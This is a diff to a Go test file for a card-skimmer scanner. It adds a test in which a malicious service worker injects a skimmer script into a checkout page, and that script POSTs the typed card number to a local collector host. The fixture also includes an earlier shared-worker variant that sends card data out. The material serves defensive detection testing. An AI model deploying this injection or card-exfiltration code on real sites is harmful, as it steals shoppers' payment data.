@@ -5,6 +5,7 @@ import (
 	"net/http"
 	"slices"
 	"strings"
+	"sync/atomic"
 	"testing"
 
 	skimguard "github.com/skimguard/skimguard"
@@ -104,5 +105,67 @@ onconnect = function (e) { e.ports[0].onmessage = function (m) { fetch('`+col+`/
 	}
 	if l, ok := leaks["shared worker "+srv.URL+"/shared.js"]; !ok || l.Where != "url" || strings.Contains(l.URL, "4929386160871730") {
 		t.Errorf("the shared worker's GET of the card is not a masked leak from the worker: %+v", obs.Leaks)
+	}
+}
+
+// TestServiceWorkerRewriteIsSeenOnTheSecondLoad: a service worker that
+// injects a skimmer into the checkout HTML only for a returning shopper is
+// caught, because a page that starts a service worker is loaded a second
+// time once the worker is active, in the same scan; the skimmer it injects
+// and the card it sends are in the observation. A page without a service
+// worker is loaded once.
+func TestServiceWorkerRewriteIsSeenOnTheSecondLoad(t *testing.T) {
+	c := needBrowser(t)
+	var got hits
+	collector := serveOn(t, "127.0.0.3", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		b, _ := io.ReadAll(r.Body)
+		got.add(r.URL.Path, r.URL.RawQuery+string(b))
+		w.Header().Set("Access-Control-Allow-Origin", "*")
+		if r.URL.Path == "/skim.js" {
+			js(w, `document.addEventListener('change', function (e) { if (e.target.name === 'cardnumber') fetch('`+r.Host+`'.replace(/^/, 'http://') + '/gate', {method: 'POST', body: e.target.value}); }, true);`)
+		}
+	}))
+	col := collector.URL
+	var loads atomic.Int64
+	mux := http.NewServeMux()
+	form := `<form action="/order" method="post"><input name="cardnumber" autocomplete="cc-number"><input name="cvc" autocomplete="cc-csc"></form>`
+	mux.HandleFunc("/checkout", func(w http.ResponseWriter, r *http.Request) {
+		loads.Add(1)
+		html(w, `<!doctype html><html><body>`+form+`<script>navigator.serviceWorker.register('/sw.js');</script></body></html>`)
+	})
+	mux.HandleFunc("/plain", func(w http.ResponseWriter, r *http.Request) {
+		loads.Add(1)
+		html(w, `<!doctype html><html><body>`+form+`</body></html>`)
+	})
+	mux.HandleFunc("/sw.js", func(w http.ResponseWriter, r *http.Request) {
+		js(w, `self.addEventListener('install', function () { self.skipWaiting(); });
+self.addEventListener('activate', function (e) { e.waitUntil(self.clients.claim()); });
+self.addEventListener('fetch', function (e) {
+  if (e.request.mode !== 'navigate') return;
+  e.respondWith(fetch(e.request).then(function (r) { return r.text(); }).then(function (h) {
+    return new Response(h.replace('</body>', '<script src="`+col+`/skim.js"></script></body>'), {headers: {'Content-Type': 'text/html'}});
+  }));
+});`)
+	})
+	srv := serveOn(t, "127.0.0.1", mux)
+
+	obs := mustScan(t, c, skimguard.Page{URL: srv.URL + "/checkout", Interact: true})
+	if got.count("/gate") == 0 {
+		t.Fatalf("the skimmer the service worker injected did not send the card (loads %d, collector %v): the test page did not run as written", loads.Load(), got.count("/skim.js"))
+	}
+	if !obs.Revisited || loads.Load() != 2 {
+		t.Fatalf("the page was loaded %d times, revisited %v: want a second load once its service worker was active", loads.Load(), obs.Revisited)
+	}
+	if !slices.ContainsFunc(obs.Scripts, func(sc skimguard.Script) bool { return sc.URL == col+"/skim.js" }) {
+		t.Errorf("the injected skimmer %s/skim.js is not among the scripts", col)
+	}
+	if !slices.ContainsFunc(obs.Leaks, func(l skimguard.Leak) bool { return l.Origin == col }) {
+		t.Errorf("the card sent to %s on the second load is not a leak: %+v", col, obs.Leaks)
+	}
+
+	loads.Store(0)
+	obs = mustScan(t, c, skimguard.Page{URL: srv.URL + "/plain", Interact: true})
+	if obs.Revisited || loads.Load() != 1 {
+		t.Errorf("a page without a service worker was loaded %d times, revisited %v: want once", loads.Load(), obs.Revisited)
 	}
 }
